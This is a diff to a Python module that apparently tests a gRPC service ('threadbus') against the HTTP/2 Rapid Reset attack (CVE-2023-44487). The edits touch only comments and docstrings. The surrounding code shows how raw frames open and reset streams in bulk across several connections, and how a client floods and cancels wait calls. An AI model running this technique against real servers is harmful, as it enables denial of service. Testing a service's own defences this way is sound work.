@@ -1,4 +1,4 @@
-"""Streams that are opened and reset at once (CVE-2023-44487), by raw frames and by a client."""
+"""Streams that are opened and reset at once (CVE-2023-44487), with raw frames and by a client."""
 
 import asyncio
 import struct
@@ -24,12 +24,12 @@ from threadbus.v1.bus_service_pb2 import WaitMessagesRequest
 from threadbus.v1.bus_service_pb2_grpc import BusServiceStub
 from threadbus.v1.message_pb2 import Cursor
 
-#: Streams in a chunk that is sent at once.
+#: Streams per chunk.
 _STREAMS = 100
 
 
 class _Template:
-    """Frames of 100 streams, each opened and reset: only their numbers are written anew."""
+    """The frames that open and reset 100 streams. Only the stream ids change between chunks."""
 
     def __init__(self, path: str, *, whole: bool) -> None:
         own = frame(HEADERS, END_HEADERS, 0, headers(path))
@@ -46,7 +46,7 @@ class _Template:
         ]
 
     def next(self, connection: Connection) -> bytearray:
-        """The next streams of a connection."""
+        """Returns the frames for the next streams of a connection."""
         stream = connection.next_stream
         connection.next_stream += 2 * _STREAMS
         for places in self._places:
@@ -60,7 +60,7 @@ _NUMBER = struct.Struct(">I").pack_into
 
 
 def _rapid(*kinds: tuple[str, bool]) -> Callable[[Target], Outcome]:
-    """Resets calls of these (path, whether the request is whole), over four connections."""
+    """Open and reset calls over four connections: (path, whether the request is complete)."""
 
     def run(target: Target) -> Outcome:
         templates = [_Template(path, whole=whole) for path, whole in kinds]
@@ -72,7 +72,7 @@ def _rapid(*kinds: tuple[str, bool]) -> Callable[[Target], Outcome]:
             streams += _STREAMS
             return templates[streams // _STREAMS % len(templates)].next(connection)
 
-        # A server may bind only those to its limits who have said that they know them.
+        # A server may enforce its limits only on clients that have acknowledged its settings.
         dropped = spray(target, chunk, connections=4, acknowledging=2)
         return Outcome(did=f"{streams:,} streams, {dropped:,} connections dropped")
 
@@ -80,7 +80,7 @@ def _rapid(*kinds: tuple[str, bool]) -> Callable[[Target], Outcome]:
 
 
 def _cancelled_waits(target: Target) -> Outcome:
-    """A client that opens waits and cancels them, without malice."""
+    """Open waits with an ordinary client and cancel them."""
 
     async def attack() -> int:
         options = [("grpc.use_local_subchannel_pool", 1)]
@@ -93,7 +93,7 @@ def _cancelled_waits(target: Target) -> Outcome:
         count = 0
         while target.left() > 0:
             calls = [stub.WaitMessages(request) for stub in stubs for _ in range(50)]
-            await asyncio.sleep(0.002)  # cancelled at once, they would not leave this process
+            await asyncio.sleep(0.002)  # if they were cancelled at once, they would never be sent
             for call in calls:
                 call.cancel()
             count += len(calls)
